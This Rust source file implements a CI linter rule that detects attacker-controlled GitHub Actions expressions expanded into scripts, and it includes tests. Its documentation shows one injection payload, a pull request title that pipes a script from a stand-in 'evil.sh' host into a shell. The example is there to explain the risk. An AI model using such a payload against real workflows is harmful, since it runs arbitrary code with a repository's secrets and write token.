//! `workflow-injection`: attacker-controlled `${{ … }}` expanded into a script.

use infra_lint_core::parse::workflow::{Expr, Job, Step, WfEntry, WorkflowDoc};
use infra_lint_core::{Finding, Model, Severity};

use crate::ci::{step_path, workflows, EXPOSED_TRIGGERS};
use crate::declare_rule;
use crate::rule::Rule;

declare_rule! {
    /// ## What it does
    /// Flags `${{ … }}` expressions over attacker-controlled contexts — issue, pull-request,
    /// comment, review and discussion titles and bodies, branch names (`github.head_ref`,
    /// `github.event.pull_request.head.ref`, `workflow_run`/`check_suite` head branches), commit
    /// messages and author names (of pushes, merge groups, workflow runs, check suites), the
    /// previous text of edited issues and comments (`github.event.changes.*.from`), wiki page
    /// names —
    /// that are expanded inside a `run:` script or an input that is code (`actions/github-script`
    /// `script:`, `jannekem/run-python-script-action` `script:`, `azure/cli` `inlineScript:`,
    /// `appleboy/ssh-action` `script:`, `mikefarah/yq` `cmd:` …), in workflows and composite
    /// actions. Values that reach the script through `env.NAME` set to such an expression count
    /// too. The finding points at the exact `${{ … }}`. Composite-action `inputs.*`, step
    /// outputs and matrix values are not judged attacker-controlled (usually they are not).
    ///
    /// Severity is `high`, and `critical` when the workflow runs on events that anyone can cause
    /// and that run with the base repository's secrets and write token
    /// (`pull_request_target`, `issue_comment`, `issues`, `discussion`, `discussion_comment`,
    /// `workflow_run`).
    ///
    /// ## Why is this bad?
    /// Expressions are substituted into the script text *before* the shell runs. A pull request
    /// titled `"; curl evil.sh | sh; #` becomes part of the command, and runs with the job's
    /// token and secrets.
    ///
    /// ## How to fix
    /// Pass the value through an environment variable and quote it in the script; the shell then
    /// treats it as data.
    ///
    /// ## Example
    /// ```yaml
    /// # bad
    /// - run: echo "${{ github.event.issue.title }}"
    /// ```
    /// ```yaml
    /// # good
    /// - run: echo "$TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// ## References
    /// - <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
    /// - <https://securitylab.github.com/resources/github-actions-untrusted-input/>
    pub struct WorkflowInjection {
        id: "workflow-injection",
        severity: High,
        formats: [Workflow, Action],
        tags: ["security", "ci", "injection"],
        precision: "high",
        summary: "Attacker-controlled ${{ }} expression expanded inside a run script",
    }
}

/// Attacker-controlled context paths (`*` = any one segment).
const TAINTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    // `merge_group`, `workflow_run`, `check_suite` … carry the head commit too
    "github.event.*.head_commit.message",
    "github.event.*.head_commit.author.email",
    "github.event.*.head_commit.author.name",
    "github.event.*.head_commit.committer.email",
    "github.event.*.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.workflow_run.head_repository.description",
    "github.event.check_suite.head_branch",
    "github.event.check_run.check_suite.head_branch",
    "github.event.check_run.head_branch",
    // edited issues, pull requests and comments: the previous text
    "github.event.changes.title.from",
    "github.event.changes.body.from",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.review_comment.diff_hunk",
    "github.event.discussion_comment.body",
];

/// Action inputs that are code (`action`, `input`): their expressions are expanded into a script.
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("jannekem/run-python-script-action", "script"),
    ("amadevus/pwsh-script", "script"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("mikefarah/yq", "cmd"),
    ("cardinalby/js-eval-action", "expression"),
];

/// Context paths (lower-case, `a['b']` / `a[0]` as `a.b` / `a.0`) referenced by an expression;
/// string literals are skipped.
fn context_paths(expr: &str) -> Vec<String> {
    let chars: Vec<char> = expr.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        if c == '\'' {
            i += 1;
            while let Some(&d) = chars.get(i) {
                i += 1;
                if d == '\'' {
                    if chars.get(i) == Some(&'\'') {
                        i += 1; // escaped quote
                    } else {
                        break;
                    }
                }
            }
            continue;
        }
        if !(c.is_ascii_alphabetic() || c == '_') {
            i += 1;
            continue;
        }
        let mut path = String::new();
        loop {
            while let Some(&d) = chars.get(i) {
                if d.is_ascii_alphanumeric() || d == '_' || d == '-' || d == '*' {
                    path.push(d.to_ascii_lowercase());
                    i += 1;
                } else {
                    break;
                }
            }
            match chars.get(i) {
                Some('.') => {
                    path.push('.');
                    i += 1;
                }
                Some('[') => {
                    let mut inner = String::new();
                    i += 1;
                    while let Some(&d) = chars.get(i) {
                        i += 1;
                        if d == ']' {
                            break;
                        }
                        if d != '\'' && d != '"' && !d.is_whitespace() {
                            inner.push(d.to_ascii_lowercase());
                        }
                    }
                    path.push('.');
                    path.push_str(&inner);
                }
                _ => break,
            }
        }
        out.push(path);
    }
    out
}

fn matches_pattern(path: &str, pattern: &str) -> bool {
    let p: Vec<&str> = path.split('.').collect();
    let q: Vec<&str> = pattern.split('.').collect();
    p.len() == q.len() && p.iter().zip(&q).all(|(a, b)| *b == "*" || a == b)
}

/// The attacker-controlled context an expression expands, if any.
fn tainted_context(expr: &str) -> Option<String> {
    let dumps = expr.to_ascii_lowercase().contains("tojson(");
    context_paths(expr).into_iter().find(|path| {
        TAINTED.iter().any(|pat| {
            matches_pattern(path, pat)
                // `toJSON(github.event.issue)` dumps the title and body too
                || (dumps && (pat.starts_with(&format!("{path}.")) || path == "github.event"))
        })
    })
}

/// An `env.NAME` reference resolved through the step, job and workflow `env:` blocks:
/// (what to show, structural name).
fn env_taint(expr: &Expr, step: &Step, job: Option<&Job>, wf: &WorkflowDoc) -> Option<(String, String)> {
    let paths = context_paths(&expr.text);
    for path in paths {
        let Some(name) = path.strip_prefix("env.") else { continue };
        let blocks: [&[WfEntry]; 3] = [&step.env, job.map_or(&[][..], |j| &j.env[..]), &wf.env];
        let entry = blocks.iter().flat_map(|b| b.iter()).find(|e| e.key.eq_ignore_ascii_case(name));
        if let Some(e) = entry {
            if let Some(ctx) = e.expressions.iter().find_map(|x| tainted_context(&x.text)) {
                return Some((format!("`env.{}` (set to `{ctx}`)", e.key), format!("env.{}", e.key)));
            }
        }
    }
    None
}

impl Rule for WorkflowInjection {
    fn meta(&self) -> &'static crate::rule::RuleMeta {
        &Self::META
    }

    fn check(&self, model: &Model, out: &mut Vec<Finding>) {
        for (_, wf) in workflows(model) {
            let exposed = wf.triggers.iter().find(|t| EXPOSED_TRIGGERS.contains(&t.value.as_str()));
            let severity = if exposed.is_some() { Severity::Critical } else { Self::META.severity };
            for (job, step) in wf.all_steps() {
                let mut sinks: Vec<(String, &[Expr])> = Vec::new();
                if let Some(run) = &step.run {
                    sinks.push(("`run:` script".to_owned(), &run.expressions));
                }
                if let Some(action) = step.action() {
                    for (a, input) in CODE_INPUTS {
                        if action == *a {
                            if let Some(code) = step.input(input) {
                                sinks.push((format!("`{input}:` code input"), &code.expressions));
                            }
                        }
                    }
                }
                for (sink, exprs) in sinks {
                    for expr in exprs {
                        let hit = tainted_context(&expr.text)
                            .map(|c| (format!("`{c}`"), c))
                            .or_else(|| env_taint(expr, step, job, wf));
                        let Some((shown, ctx)) = hit else { continue };
                        let mut msg = format!(
                            "{shown} is attacker-controlled and is expanded into the {sink} of step \"{}\"; crafted input can run arbitrary commands",
                            step.label()
                        );
                        if let Some(t) = exposed {
                            msg.push_str(&format!(
                                " with this workflow's secrets and write token (`{}` trigger)",
                                t.value
                            ));
                        }
                        let mut f = Finding::new(Self::META.id, severity, expr.span, msg)
                            .fix("Pass the value through `env:` and use the quoted shell variable (\"$VAR\") instead of `${{ }}`")
                            .key(format!("{}:{ctx}", step_path(job, &step.label())))
                            .env(model.env_of(expr.span));
                        if let Some(t) = exposed {
                            f = f.related(t.span, format!("`{}` runs with the base repository's secrets", t.value));
                        }
                        out.push(f);
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_and_taint() {
        assert_eq!(context_paths("github.event.issue.title || 'github.head_ref'"), ["github.event.issue.title"]);
        assert_eq!(context_paths("github.event['pull_request'].title"), ["github.event.pull_request.title"]);
        assert!(tainted_context("github.event.pull_request.head.ref").is_some());
        assert!(tainted_context("github.event.commits[0].message").is_some());
        assert!(tainted_context("toJSON(github.event.issue)").is_some());
        assert!(tainted_context("toJSON(github.event)").is_some());
        assert!(tainted_context("github.event.issue").is_none());
        assert!(tainted_context("github.event.pull_request.number").is_none());
        assert!(tainted_context("github.event.pull_request.head.sha").is_none());
        assert!(tainted_context("secrets.TOKEN").is_none());
        assert!(tainted_context("format('{0}', github.event.issue.title)").is_some());
        assert!(tainted_context("GITHUB.HEAD_REF").is_some());
        assert!(tainted_context("github.event.check_suite.head_commit.message").is_some());
        assert!(tainted_context("github.event.workflow_run.head_commit.committer.name").is_some());
        assert!(tainted_context("github.event.changes.body.from").is_some());
        assert!(tainted_context("github.event.check_suite.head_sha").is_none());
        assert!(tainted_context("github.event.workflow_run.head_sha").is_none());
    }
}
